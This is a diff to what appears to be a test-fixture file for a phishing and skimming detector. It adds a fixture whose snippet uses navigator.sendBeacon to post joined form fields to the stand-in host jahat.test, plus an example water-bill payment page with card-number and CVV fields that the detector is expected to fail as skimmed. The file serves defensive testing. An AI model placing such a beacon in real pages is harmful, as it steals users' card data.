@@ -83,6 +83,14 @@ _HOOK: Final = Code(
     hosts=("api.telegram.org",),
 )
 
+_BEACON: Final = Code(
+    selector="body > script",
+    traits=("beacon", "fields", "secrets", "sends"),
+    length=300,
+    snippet="navigator.sendBeacon('https://jahat.test/collect',q.join('|'))",
+    hosts=("jahat.test",),
+)
+
 _TAKEN: Final = Visits(
     visits=(),
     scripts=(
@@ -195,6 +203,12 @@ EXAMPLES: Final = (
         Outcome.FAIL,
         "chat",
         _login("Login Pegawai Kabupaten Contoh", _HERE, _HOOK),
+    ),
+    _example(
+        "a card that a script copies to a stranger",
+        Outcome.FAIL,
+        "skimmed",
+        _login("Bayar rekening air", replace(_HERE, fields=("Nomor kartu", "CVV")), _BEACON),
     ),
     _example(
         "one whose script, a file of the site's own, does",
